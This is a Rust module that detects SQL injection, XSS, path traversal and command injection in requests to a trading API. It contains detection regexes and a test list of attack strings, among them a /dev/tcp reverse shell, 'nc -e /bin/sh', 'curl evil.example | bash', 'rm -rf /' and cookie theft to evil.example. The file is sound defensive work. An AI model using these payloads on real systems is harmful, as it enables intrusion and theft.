//! Intrusion detection for the validation layer (SPEC §9 `[intrusion] mode`).
//!
//! [`scan_request`] looks for SQL injection, cross-site scripting, path traversal and command
//! injection in a request's path, query and body, raw and after up to three rounds of
//! decoding (percent escapes, `+`, JSON/backslash escapes), so encoded and double-encoded
//! attacks are seen too. It only names the [`Pattern`]; the validation layer decides what to
//! do with it: count and audit `suspicious_request` (`detect`), or refuse with 400 (`block`).
//!
//! The patterns need attack context (a quote before `or '1'='1`, `union select`, a shell
//! separator before `rm -rf`), so ordinary trading text such as "select the best order" or
//! "update my order" passes. Bodies are scanned as bytes, so a body that is not UTF-8 is
//! scanned too, not skipped; only the first [`MAX_SCAN_BYTES`] of any input are scanned.

use std::borrow::Cow;
use std::fmt;
use std::sync::LazyLock;

use regex::bytes::RegexSet;

/// Inputs longer than this are scanned only in their first `MAX_SCAN_BYTES` bytes.
pub const MAX_SCAN_BYTES: usize = 64 * 1024;

/// Decoding rounds after the raw scan: enough for double and triple encoding.
const DECODE_ROUNDS: usize = 3;

/// A class of attack found in a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Pattern {
    /// SQL injection: `' or '1'='1`, `union select`, `'; drop table …`, `admin'--`, …
    SqlInjection,
    /// Cross-site scripting: `<script`, `javascript:`, `on…=` handlers in tags, `<iframe`, …
    Xss,
    /// Path traversal: `../`, `..\`, their percent-encoded forms, overlong UTF-8, `%00`, …
    PathTraversal,
    /// Command injection: `; rm -rf`, `| sh`, `$(…)`, backticks, `&& curl http://…`, …
    CommandInjection,
}

impl Pattern {
    /// Every pattern, in the order a request matching several is reported.
    pub const ALL: [Self; 4] = [
        Self::SqlInjection,
        Self::Xss,
        Self::CommandInjection,
        Self::PathTraversal,
    ];

    /// The `pattern` label of `rampart_suspicious_requests_total`.
    pub fn label(self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::Xss => "xss",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
        }
    }

    fn regex(self) -> String {
        let parts: &[&str] = match self {
            Self::SqlInjection => SQL_INJECTION,
            Self::Xss => XSS,
            Self::PathTraversal => PATH_TRAVERSAL,
            Self::CommandInjection => COMMAND_INJECTION,
        };
        // ASCII-only case folding, `\s`, `\w` and `\b` keep the whole set inside the lazy
        // DFA (a Unicode `\b` would force the slower engines) and match non-UTF-8 bytes.
        format!("(?i-u)(?:{})", parts.join("|"))
    }
}

impl fmt::Display for Pattern {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.label())
    }
}

const SQL_INJECTION: &[&str] = &[
    // union select, also with comments or a parenthesis in place of spaces.
    r"\bunion(?:\s|/\*[^*]*\*/|\()+(?:(?:all|distinct)(?:\s|/\*[^*]*\*/|\()+)?select\b",
    // A quote closing a string, then a tautology comparing two quoted strings or two
    // numbers: ' or '1'='1, " or ""=", ') or ('a'='a, ' or 1=1, ' or true--.
    r#"['"`]\s*\)*\s*(?:or|and|xor|\|\||&&)\s+\(*\s*(?:'[^']*'\s*(?:=|<>|!=|<=|>=|<|>|like\b|regexp\b)\s*'|"[^"]*"\s*(?:=|<>|!=|<=|>=|<|>|like\b|regexp\b)\s*"|\d+\s*(?:=|<>|!=|<=|>=|<|>|like\b)\s*\d|true\s*(?:--|#|$))"#,
    // A quote, then a comment that cuts off the rest of the query: admin'--, ')#, '/*.
    r#"'\s*\)*\s*(?:--|#)[\s\-+]*(?:$|["&;\n])"#,
    r"'\s*\)*\s*/\*",
    // Stacked statements after a closed string or a number: '; drop table …, 1; shutdown.
    r#"(?:['")]|\b\d+)\s*;\s*(?:drop\s+(?:table|database|schema|view|index|user|procedure|function)\b|truncate\s+table\b|alter\s+(?:table|user|database)\b|create\s+(?:table|user|database|function|procedure)\b|exec(?:ute)?\s+(?:xp_|sp_|master\.)|shutdown\b|declare\s+@)"#,
    r#"['")]\s*;\s*(?:delete\s+from\s|insert\s+into\s|update\s+[\w.`"\[\]]+\s+set\s|select\s)"#,
    // Time-based blind probes.
    r"\bpg_sleep\s*\(|(?:\b(?:and|or|select|then|else)|[;|,(])\s*sleep\s*\(\s*\d+(?:\.\d+)?\s*\)",
    r"\bbenchmark\s*\(\s*\d+\s*,",
    r"\bwaitfor\s+delay\s+'",
    // Catalogue and server objects no trading payload names.
    r"\binformation_schema\b|\bpg_catalog\.|\bsqlite_master\b|\bsysobjects\b|\bmysql\.user\b",
    r"\bxp_cmdshell\b|\bsp_executesql\b|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|@@version\b",
    r"\b(?:char|chr)\s*\(\s*\d+\s*(?:,\s*\d+\s*)+\)",
    // select followed by something only SQL puts there.
    r"\bselect\s+(?:\*\s+from\b|@@|null\s*,|(?:count|concat|group_concat|version|user|database|char|sleep)\s*\()",
    // Column-count probing and numeric tautologies: 1 order by 3--, 1 or 1=1.
    r"\border\s+by\s+\d+\s*(?:--|#)",
    r"\b(?:or|and)\s+\d+\s*=\s*\d+\s*(?:--|#|;|$)",
];

const XSS: &[&str] = &[
    r"</?script\b",
    // A script URL where a URL goes (start of a value, after `=`, a quote, `(` or `/`), not
    // the word in a sentence.
    r#"(?:^|[=("'`/>]\s*)(?:java|vb|live)script\s*:"#,
    // An event handler inside a tag: <img src=x onerror=…>, <svg/onload=…>.
    r#"<[a-z!/][^>]*[\s/"'](?:on[a-z]{3,})\s*="#,
    r"<(?:iframe|frame|frameset|embed|applet)\b|<object[^>]+\bdata\s*=",
    r"\bdata\s*:\s*text/html\b|\bsrcdoc\s*=",
    r"\bdocument\s*\.\s*(?:cookie|write|domain)\b",
];

const PATH_TRAVERSAL: &[&str] = &[
    r"\.\.[/\\]",
    r#"[/\\]\.\.(?:$|[?#;&"])"#,
    // Seen in the raw (or once-decoded) text: a null byte and overlong or %u-encoded dots
    // and slashes, none of which ordinary text contains.
    r"%00",
    r"%c0%ae|%c0%af|%c0%2e|%c1%9c|%c1%1c|%c1%af|%e0%80%ae",
    r"%u002e|%u2215|%u2216|%uff0e|%uff0f|%u2044",
    // Well-known targets of traversal.
    r"/etc/(?:passwd|shadow|group|hosts)\b|/proc/self/|\b(?:win|boot|system)\.ini\b|\bc:\\windows\\",
];

const COMMAND_INJECTION: &[&str] = &[
    // A shell separator (or `$(`), then a command that only an attacker sends with it.
    r"(?:[;&|\n`]|\$\()\s*(?:sudo\s+)?(?:rm\s+-[a-z]*[rf]|(?:wget|curl)\s+(?:-\S+\s+)*(?:[a-z]+://|[\w.-]+[:/])|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.-]+\s+\d+|(?:ba|z|k|c|tc|da|a)?sh\s+-[a-z]+\b|python[23]?\s+-c\b|perl\s+-e\b|ruby\s+-e\b|php\s+-r\b|cat\s+/|chmod\s+[+0-7]|chown\s|whoami\b|uname\s+-|ping\s+-[cn]\s|nslookup\s|powershell\b|cmd(?:\.exe)?\s*/c\b|mkfifo\b|telnet\s|killall\s|shutdown\s+-|reboot\b)",
    r"[;|`]\s*id\s*(?:$|[;|`)])",
    // Piping into a shell, wherever it appears.
    r"\|\s*(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b",
    r"/bin/(?:ba|z|da)?sh\b|/dev/tcp/|\bbash\s+-i\b",
    r"\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|c|command|nop|noprofile|w)\b|\bcmd(?:\.exe)?\s+/[ck]\s",
    // Command substitution running a known command: $(id), `whoami`.
    r"\$\(\s*(?:id|whoami|uname|cat|ls|rm|curl|wget|nc|sh|bash|sleep|echo|ping|nslookup|dig|base64|printf|env|pwd|ifconfig|hostname)\b",
    r"`\s*(?:id|whoami|uname|cat|ls|rm|curl|wget|nc|sh|bash|sleep|echo|ping|nslookup|dig|base64|printf|env|pwd|ifconfig|hostname)\b[^`]*`",
    // $IFS stands in for spaces in filtered injections.
    r"\$\{ifs\}|\$ifs\b",
];

static PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new(Pattern::ALL.map(Pattern::regex))
        .expect("the intrusion patterns are fixed and compile (tested in this module)")
});

/// Scans free text (a path, a query string, a body) for attack patterns.
pub fn scan(input: &str) -> Option<Pattern> {
    scan_bytes(input.as_bytes())
}

/// Scans raw bytes for attack patterns. Bytes that are not UTF-8 are matched as they are,
/// not skipped: the patterns are ASCII, so an attack embedded in a binary or Latin-1 body is
/// still found.
pub fn scan_bytes(input: &[u8]) -> Option<Pattern> {
    let input = &input[..input.len().min(MAX_SCAN_BYTES)];
    if let Some(pattern) = first_match(input) {
        return Some(pattern);
    }
    let mut current = Cow::Borrowed(input);
    for _ in 0..DECODE_ROUNDS {
        let Some(decoded) = decode_round(&current) else {
            break;
        };
        if let Some(pattern) = first_match(&decoded) {
            return Some(pattern);
        }
        current = Cow::Owned(decoded);
    }
    None
}

/// Scans a request's path, query string (without `?`) and body (first [`MAX_SCAN_BYTES`]),
/// returning the first pattern found, path first.
pub fn scan_request(path: &str, query: Option<&str>, body: Option<&[u8]>) -> Option<Pattern> {
    scan(path)
        .or_else(|| query.and_then(scan))
        .or_else(|| body.and_then(scan_bytes))
}

fn first_match(input: &[u8]) -> Option<Pattern> {
    // `is_match` stops at the first hit; the rarer `matches` pass only runs on a hit.
    if !PATTERNS.is_match(input) {
        return None;
    }
    let index = PATTERNS.matches(input).into_iter().next()?;
    Pattern::ALL.get(index).copied()
}

/// One round of decoding, or `None` (without allocating) when nothing decodes: `%XX`, `+` as
/// a space, and the backslash escapes of JSON and JavaScript strings that stand for ASCII
/// (`\uXXXX` below 0x80, `\"`, `\'`, `\\`, `\/`).
fn decode_round(input: &[u8]) -> Option<Vec<u8>> {
    // Most input has no escape at all; skip to the first byte that could start one with a
    // tight loop before the slower escape-by-escape walk.
    let mut index = input
        .iter()
        .position(|byte| matches!(byte, b'%' | b'+' | b'\\'))?;
    let mut output: Option<Vec<u8>> = None;
    while index < input.len() {
        if let Some((byte, length)) = escape_at(input, index) {
            output
                .get_or_insert_with(|| {
                    let mut output = Vec::with_capacity(input.len());
                    output.extend_from_slice(&input[..index]);
                    output
                })
                .push(byte);
            index += length;
        } else {
            if let Some(output) = output.as_mut() {
                output.push(input[index]);
            }
            index += 1;
        }
    }
    output
}

/// The byte an escape at `index` stands for and the escape's length.
fn escape_at(input: &[u8], index: usize) -> Option<(u8, usize)> {
    let rest = input.get(index..)?;
    match rest {
        [b'%', high, low, ..] => Some((hex(*high)? << 4 | hex(*low)?, 3)),
        [b'+', ..] => Some((b' ', 1)),
        [b'\\', b'u', a, b, c, d, ..] => {
            let value = [a, b, c, d].into_iter().try_fold(0u32, |value, digit| {
                Some(value << 4 | u32::from(hex(*digit)?))
            })?;
            u8::try_from(value)
                .ok()
                .filter(u8::is_ascii)
                .map(|byte| (byte, 6))
        }
        [b'\\', escaped @ (b'"' | b'\'' | b'\\' | b'/'), ..] => Some((*escaped, 2)),
        _ => None,
    }
}

fn hex(digit: u8) -> Option<u8> {
    match digit {
        b'0'..=b'9' => Some(digit - b'0'),
        b'a'..=b'f' => Some(digit - b'a' + 10),
        b'A'..=b'F' => Some(digit - b'A' + 10),
        _ => None,
    }
}

/// `[intrusion]` as written.
#[derive(Debug, serde::Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct RawIntrusion {
    /// `detect` (log and count), `block` (refuse) or `off`.
    pub mode: String,
}

impl Default for RawIntrusion {
    fn default() -> Self {
        Self {
            mode: "detect".into(),
        }
    }
}

/// What the intrusion detector does with a match.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IntrusionMode {
    /// Count and audit, let the request pass.
    Detect,
    /// Refuse with 400.
    Block,
    /// No scanning.
    Off,
}

impl IntrusionMode {
    /// Checks `[intrusion]`, adding what is wrong to `problems`.
    pub fn from_raw(raw: &RawIntrusion, problems: &mut crate::settings::Problems) -> Self {
        match raw.mode.as_str() {
            "detect" => Self::Detect,
            "block" => Self::Block,
            "off" => Self::Off,
            other => {
                problems.add(
                    "intrusion.mode",
                    format!("`{other}` is not one of detect, block, off"),
                );
                Self::Detect
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ATTACKS: &[(&str, Pattern)] = &[
        // SQL injection
        ("' OR '1'='1", Pattern::SqlInjection),
        ("admin'--", Pattern::SqlInjection),
        ("admin' #", Pattern::SqlInjection),
        ("x') or ('a'='a", Pattern::SqlInjection),
        ("1' OR 1=1 -- ", Pattern::SqlInjection),
        (r#"admin" or ""=""#, Pattern::SqlInjection),
        ("1 or 1=1", Pattern::SqlInjection),
        (
            "1 UNION SELECT username, password FROM users",
            Pattern::SqlInjection,
        ),
        ("1 union all select null,null", Pattern::SqlInjection),
        ("1 UNION/**/SELECT 1,2", Pattern::SqlInjection),
        ("x'; DROP TABLE users; --", Pattern::SqlInjection),
        ("1; drop table orders", Pattern::SqlInjection),
        (
            "'; update users set role='admin' where id=1; --",
            Pattern::SqlInjection,
        ),
        ("1' AND SLEEP(5)", Pattern::SqlInjection),
        ("1 or sleep(5)#", Pattern::SqlInjection),
        ("IF(1=1,SLEEP(5),0)", Pattern::SqlInjection),
        ("' or true--", Pattern::SqlInjection),
        ("' OR 'x' LIKE 'x", Pattern::SqlInjection),
        ("1 AND (SELECT 1 FROM pg_sleep(5))", Pattern::SqlInjection),
        ("1 and benchmark(1000000,md5(1))", Pattern::SqlInjection),
        ("'; WAITFOR DELAY '0:0:5'--", Pattern::SqlInjection),
        (
            "1 and 1=2 union select table_name from information_schema.tables",
            Pattern::SqlInjection,
        ),
        ("SELECT * FROM users", Pattern::SqlInjection),
        ("select @@version", Pattern::SqlInjection),
        ("1 order by 3--", Pattern::SqlInjection),
        ("CHAR(65,66,67)", Pattern::SqlInjection),
        ("'; exec master..xp_cmdshell 'dir'", Pattern::SqlInjection),
        ("id=1%20UNION%20SELECT%201,2", Pattern::SqlInjection),
        ("id=1+union+select+1,2", Pattern::SqlInjection),
        (
            "id=1%2527%20or%20%25271%2527%3D%25271",
            Pattern::SqlInjection,
        ),
        (
            r#"{"username":"admin'--","password":"x"}"#,
            Pattern::SqlInjection,
        ),
        (
            r#"{"q":"\u0027 or \u00271\u0027=\u00271"}"#,
            Pattern::SqlInjection,
        ),
        // XSS
        ("<script>alert(1)</script>", Pattern::Xss),
        ("<SCRIPT SRC=//evil.example/x.js>", Pattern::Xss),
        ("<img src=x onerror=alert(1)>", Pattern::Xss),
        ("<svg/onload=alert(1)>", Pattern::Xss),
        ("<div style=\"x\" onmouseover = alert(1)>", Pattern::Xss),
        ("<body onload=alert(1)>", Pattern::Xss),
        ("javascript:alert(1)", Pattern::Xss),
        ("redirect=javascript%3Aalert(1)", Pattern::Xss),
        (r#"{"url":" vbscript:msgbox(1)"}"#, Pattern::Xss),
        ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", Pattern::Xss),
        ("<iframe src=//evil.example>", Pattern::Xss),
        ("data:text/html;base64,PHNjcmlwdD4=", Pattern::Xss),
        ("fetch('//evil.example?c='+document.cookie)", Pattern::Xss),
        ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", Pattern::Xss),
        ("q=%253Cscript%253E", Pattern::Xss),
        (
            r#"{"note":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
            Pattern::Xss,
        ),
        // Path traversal
        ("../../etc/passwd", Pattern::PathTraversal),
        ("..\\..\\windows\\win.ini", Pattern::PathTraversal),
        ("/static/..", Pattern::PathTraversal),
        ("....//....//secret", Pattern::PathTraversal),
        ("%2e%2e%2f%2e%2e%2fsecret", Pattern::PathTraversal),
        ("%2e%2e/secret", Pattern::PathTraversal),
        ("..%2f..%2fsecret", Pattern::PathTraversal),
        ("..%5c..%5csecret", Pattern::PathTraversal),
        ("%252e%252e%252fsecret", Pattern::PathTraversal),
        ("%25252e%25252e%25252fsecret", Pattern::PathTraversal),
        ("..%c0%afsecret", Pattern::PathTraversal),
        ("..%u2215secret", Pattern::PathTraversal),
        ("report.pdf%00.jpg", Pattern::PathTraversal),
        ("report.pdf%2500.jpg", Pattern::PathTraversal),
        ("file=/proc/self/environ", Pattern::PathTraversal),
        (r#"{"file":"..\\..\\boot.ini"}"#, Pattern::PathTraversal),
        (
            r#"{"file":"..\u002f..\u002fsecret"}"#,
            Pattern::PathTraversal,
        ),
        // Command injection
        ("; rm -rf /", Pattern::CommandInjection),
        ("x | sh", Pattern::CommandInjection),
        (
            "curl http://evil.example/x | bash",
            Pattern::CommandInjection,
        ),
        ("$(whoami)", Pattern::CommandInjection),
        ("`id`", Pattern::CommandInjection),
        ("a;id", Pattern::CommandInjection),
        (
            "x && curl http://evil.example/x.sh",
            Pattern::CommandInjection,
        ),
        ("x || wget evil.example/payload", Pattern::CommandInjection),
        ("; cat /etc/passwd", Pattern::CommandInjection),
        ("; nc -e /bin/sh 10.0.0.1 4444", Pattern::CommandInjection),
        ("& ping -n 10 127.0.0.1", Pattern::CommandInjection),
        ("x | powershell -enc SQBFAFgA", Pattern::CommandInjection),
        ("cmd.exe /c dir", Pattern::CommandInjection),
        (
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            Pattern::CommandInjection,
        ),
        ("${IFS}cat${IFS}/etc/passwd", Pattern::CommandInjection),
        (
            "host=127.0.0.1%3B%20rm%20-rf%20%2F",
            Pattern::CommandInjection,
        ),
        ("a\nwhoami", Pattern::CommandInjection),
    ];

    const BENIGN: &[&str] = &[
        r#"{"symbol":"AAPL","side":"buy","quantity":100,"price":187.25,"type":"limit","time_in_force":"GTC"}"#,
        r#"{"symbol":"MSFT","side":"sell","quantity":5,"note":"Select the best order and update my order before close"}"#,
        r#"{"note":"Please drop the stop-loss, delete the old alert and update tomorrow"}"#,
        r#"{"note":"Insert a trailing stop; select union-made ETFs only"}"#,
        r#"{"note":"Drop table stakes, union members select their reps"}"#,
        r#"{"note":"From 10:00 to 12:00; drop me a line or update the sheet"}"#,
        r#"{"note":"Cut losses -- sell half, then 'hold' the rest"}"#,
        r#"{"note":"Order #123 'urgent' -- please fill"}"#,
        r#"{"note":"'A' or 'B', whichever fills first"}"#,
        r#"{"note":"Buy 10 @ $187.25 (50% of target) & sell at 200 | review"}"#,
        r#"{"note":"AT&T and P&G; Johnson & Johnson | shares"}"#,
        r#"{"note":"Use `limit` orders, not `market`"}"#,
        r#"{"note":"Price > 100 and < 120 on Monday; 5 or 6 = fine"}"#,
        r#"{"note":"Sleep on it, check in 8 hours; bash the bears"}"#,
        r#"{"note":"Profit $(USD) 500, loss $(5)"}"#,
        r#"{"note":"O'Reilly Automotive or O'Neil? Can't decide."}"#,
        r#"{"note":"He said \"buy\" and \"hold\""}"#,
        r#"{"note":"I'll buy 'AAPL' or 'MSFT' = whichever is cheaper"}"#,
        r#"{"note":"Sleep(8) hours, then javascript: no thanks"}"#,
        r#"{"note":"Wait... then sell. Done."}"#,
        r#"{"note":"Zürich desk: ça marche, 東京 ok 📈"}"#,
        r#"{"email":"jane.doe+trading@example.com","name":"Jane O'Doe"}"#,
        r#"{"file":"statement.2024.pdf","export":"./exports/trades.v2.csv"}"#,
        "/orders/01J9Z3K4M5N6P7Q8R9S0T1V2W3/fills",
        "/files/Q3.report.v2.xlsx",
        "/users/me",
        "sort=price&order=desc&select=symbol,price&update=1&id=42",
        "q=select+best+order&note=update%20my%20order&discount=50%25",
        "email=jane.doe%2Btrading%40example.com&from=2024-01-01&to=2024-12-31",
        "redirect=%2Fdashboard%3Ftab%3Dorders",
        "symbols=AAPL,MSFT,GOOG&fields=price;volume",
    ];

    #[test]
    fn the_patterns_compile() {
        assert_eq!(PATTERNS.len(), Pattern::ALL.len());
    }

    #[test]
    fn labels_are_the_metric_label_values() {
        let labels = Pattern::ALL.map(Pattern::label);
        assert_eq!(
            labels,
            [
                "sql_injection",
                "xss",
                "command_injection",
                "path_traversal"
            ]
        );
        assert_eq!(Pattern::Xss.to_string(), "xss");
    }

    #[test]
    fn attacks_are_detected_with_the_right_pattern() {
        for (attack, expected) in ATTACKS {
            assert_eq!(scan(attack), Some(*expected), "attack: {attack}");
        }
    }

    #[test]
    fn ordinary_trading_payloads_are_not_flagged() {
        for text in BENIGN {
            assert_eq!(scan(text), None, "benign: {text}");
        }
    }

    #[test]
    fn the_original_seed_patterns_false_positives_now_pass() {
        for text in [
            "Select the best order",
            "update my order",
            "delete the alert",
            "sh is short for shares",
            "bash the bears",
        ] {
            assert_eq!(scan(text), None, "benign: {text}");
        }
    }

    #[test]
    fn non_utf8_bodies_are_scanned_not_skipped() {
        let mut body = vec![0xff, 0xfe, 0x00, 0xc0, 0xaf];
        body.extend_from_slice(b"' or '1'='1");
        assert_eq!(scan_bytes(&body), Some(Pattern::SqlInjection));
        assert_eq!(scan_bytes(&[0xff, 0x00, 0xc0, 0xaf, 0x80, b'.']), None);
    }

    #[test]
    fn only_the_first_64_kib_of_an_input_are_scanned() {
        let mut body = vec![b' '; MAX_SCAN_BYTES - 20];
        body.extend_from_slice(b"<script>");
        assert_eq!(scan_bytes(&body), Some(Pattern::Xss));
        let mut body = vec![b' '; MAX_SCAN_BYTES];
        body.extend_from_slice(b"<script>");
        assert_eq!(scan_bytes(&body), None);
    }

    #[test]
    fn scan_request_looks_at_path_query_and_body() {
        let order = br#"{"symbol":"AAPL","quantity":1}"#.as_slice();
        assert_eq!(scan_request("/orders", Some("limit=10"), Some(order)), None);
        assert_eq!(scan_request("/orders", None, None), None);
        assert_eq!(
            scan_request("/files/..%2f..%2fsecret", None, Some(order)),
            Some(Pattern::PathTraversal)
        );
        assert_eq!(
            scan_request(
                "/orders",
                Some("id=1%27%20or%20%271%27%3D%271"),
                Some(order)
            ),
            Some(Pattern::SqlInjection)
        );
        assert_eq!(
            scan_request("/orders", None, Some(b"{\"note\":\"<iframe src=x>\"}")),
            Some(Pattern::Xss)
        );
    }

    #[test]
    fn decoding_leaves_text_without_escapes_unallocated() {
        assert_eq!(decode_round(b"plain text, 50% off \\n"), None);
        assert_eq!(
            decode_round(b"a%2Fb+c\\u0041\\\"\\u00e9%zz").as_deref(),
            Some(b"a/b cA\"\\u00e9%zz".as_slice())
        );
        assert_eq!(decode_round(b"%2"), None, "truncated escapes stay");
    }

    #[test]
    fn no_input_panics() {
        for input in [
            &b""[..],
            b"%",
            b"%%",
            b"\\",
            b"\\u",
            b"\\u12",
            b"+",
            &[0xff; 10],
        ] {
            let _ = scan_bytes(input);
        }
    }
}
